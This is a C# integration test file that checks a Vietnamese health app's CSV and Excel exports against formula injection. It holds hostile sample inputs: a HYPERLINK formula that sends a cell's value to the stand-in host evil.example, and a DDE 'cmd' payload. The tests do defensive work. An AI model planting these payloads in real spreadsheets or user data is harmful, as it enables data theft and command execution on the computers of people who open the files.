using System.Globalization;
using System.IO.Compression;
using System.Net;
using System.Net.Http.Json;
using System.Text.Json;
using ClosedXML.Excel;
using CoSo.Core.Common;
using CoSo.IntegrationTests.Infrastructure;
using CoSo.Web.Infrastructure.Excel;

namespace CoSo.IntegrationTests.Security;

// Issue 14, item 8: CSV/Excel formula injection (security findings B17, B18). Text that starts like a formula is
// written as text with Excel's quote prefix in every .xlsx and with a leading single quote in every CSV.
public sealed class ExportFormulaTests
{
    private const string Hyperlink = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Bấm xem\")";

    [Theory]
    [MemberData(nameof(TestDatabase.Providers), MemberType = typeof(TestDatabase))]
    public async Task A_formula_in_a_case_address_is_text_in_cases_xlsx_and_the_report_time_is_Vietnam_time(string provider)
    {
        var app = await Apps.Get(provider);
        using var a = await app.LoginAsync("a1");
        // A resident cannot be called "=HYPERLINK(…)" (the name rule); a free-text address can hold it.
        var refused = await a.PostAsJsonAsync("/api/v1/people", TestPeople.Input(app.Org.VillageA1.Id, name: Hyperlink), TestPeople.Json);
        Assert.Equal(HttpStatusCode.BadRequest, refused.StatusCode);

        var name = TestPeople.UniqueName("Công Thức");
        var created = await a.PostAsJsonAsync("/api/v1/surveillance/cases", InputLimitsTests.Case(app, name, address: Hyperlink), TestPeople.Json);
        var body = await created.Content.ReadFromJsonAsync<JsonElement>();
        Assert.Equal(HttpStatusCode.Created, created.StatusCode);
        var reportedAt = body.GetProperty("reportedAt").GetDateTimeOffset();

        var bytes = await a.GetByteArrayAsync("/api/v1/surveillance/cases.xlsx?disease=dengue");
        using var book = new XLWorkbook(new MemoryStream(bytes));
        var sheet = book.Worksheet(1);
        var row = sheet.RowsUsed().Single(r => r.Cell(2).GetString() == name);
        AssertText(row.Cell(15), Hyperlink);
        Assert.DoesNotContain("<f>", SheetXml(bytes), StringComparison.Ordinal);

        Assert.Equal("Báo cáo lúc", sheet.Cell(1, 12).GetString());
        var expected = TimeZoneInfo.ConvertTime(reportedAt, TimeZoneInfo.FindSystemTimeZoneById("Asia/Ho_Chi_Minh")).DateTime;
        var written = row.Cell(12).GetDateTime();
        Assert.True(Math.Abs((written - expected).TotalSeconds) < 1, $"written {written:O}, Vietnam time {expected:O}, UTC {reportedAt.UtcDateTime:O}");
    }

    [Theory]
    [MemberData(nameof(TestDatabase.Providers), MemberType = typeof(TestDatabase))]
    public async Task A_formula_in_a_lot_number_is_text_in_the_stock_report(string provider)
    {
        var app = await Apps.Get(provider);
        using var a = await app.LoginAsync("a1");
        var lot = "=1+2+" + Pharmacy.StockApi.NewLot();
        await Pharmacy.StockApi.ReceiveAsync(a, "ALBE400", 10, new DateOnly(2030, 1, 31), lot: lot);
        var month = DateTime.UtcNow.AddHours(7).ToString("yyyy-MM", CultureInfo.InvariantCulture);

        var bytes = await a.GetByteArrayAsync($"/api/v1/stock/report.xlsx?month={month}");
        using var book = new XLWorkbook(new MemoryStream(bytes));
        var cell = book.Worksheet(1).CellsUsed().Single(c => c.GetString() == lot);
        AssertText(cell, lot);
        Assert.DoesNotContain("<f>", SheetXml(bytes), StringComparison.Ordinal);
    }

    [Fact]
    public void Every_formula_start_in_a_list_workbook_is_text_with_a_quote_prefix_and_the_value_is_unchanged()
    {
        // The list workbook writes the due lists, the weighing and vitamin A lists and the mother-and-child exports.
        string[] risky = ["=cmd|' /C calc'!A0", "+84912345678", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"];
        var rows = risky.Select(r => new object?[] { r, "Nguyễn Văn An", new DateOnly(2026, 1, 2), 5 }).ToList();
        var bytes = ListWorkbook.Build("Danh sách", "=Tiêu đề", [new("Ô"), new("Họ tên", 28), new("Ngày", 12, ListCell.Date), new("Số", 8, ListCell.Number)], rows);

        using var book = new XLWorkbook(new MemoryStream(bytes));
        var sheet = book.Worksheet(1);
        AssertText(sheet.Cell(1, 1), "=Tiêu đề");
        for (var i = 0; i < risky.Length; i++)
        {
            // XML reads a bare carriage return as a line feed: "\r=1+1" comes back as "\n=1+1", still text.
            AssertText(sheet.Cell(4 + i, 1), risky[i].Replace('\r', '\n'));
            Assert.False(sheet.Cell(4 + i, 2).Style.IncludeQuotePrefix); // an ordinary name gets no prefix
            Assert.Equal(XLDataType.DateTime, sheet.Cell(4 + i, 3).DataType);
            Assert.Equal(5, sheet.Cell(4 + i, 4).GetDouble());
        }

        Assert.DoesNotContain("<f>", SheetXml(bytes), StringComparison.Ordinal);
    }

    [Fact]
    public void A_csv_field_that_starts_like_a_formula_gets_a_leading_quote_and_RFC_4180_quoting()
    {
        Assert.Equal("'=1+2 Sáu", SpreadsheetText.Csv("=1+2 Sáu"));
        Assert.Equal("\"'=HYPERLINK(\"\"http://x\"\",\"\"a\"\")\"", SpreadsheetText.Csv("=HYPERLINK(\"http://x\",\"a\")"));
        Assert.Equal("'+84912345678", SpreadsheetText.Csv("+84912345678"));
        Assert.Equal("'-1", SpreadsheetText.Csv("-1"));
        Assert.Equal("'@SUM(A1)", SpreadsheetText.Csv("@SUM(A1)"));
        Assert.Equal("'\tx", SpreadsheetText.Csv("\tx"));
        Assert.Equal("\"'\rx\"", SpreadsheetText.Csv("\rx"));
        Assert.Equal("Nguyễn Văn An", SpreadsheetText.Csv("Nguyễn Văn An"));
        Assert.Equal("\"Số 5, Thôn 1\"", SpreadsheetText.Csv("Số 5, Thôn 1"));
        Assert.Equal(string.Empty, SpreadsheetText.Csv(null));
    }

    private static void AssertText(IXLCell cell, string expected)
    {
        Assert.False(cell.HasFormula, $"{cell.Address} is a formula");
        Assert.Equal(XLDataType.Text, cell.DataType);
        Assert.Equal(expected, cell.GetString());
        Assert.True(cell.Style.IncludeQuotePrefix, $"{cell.Address} has no quote prefix");
    }

    private static string SheetXml(byte[] xlsx)
    {
        using var zip = new ZipArchive(new MemoryStream(xlsx));
        using var reader = new StreamReader(zip.GetEntry("xl/worksheets/sheet1.xml")!.Open());
        return reader.ReadToEnd();
    }
}
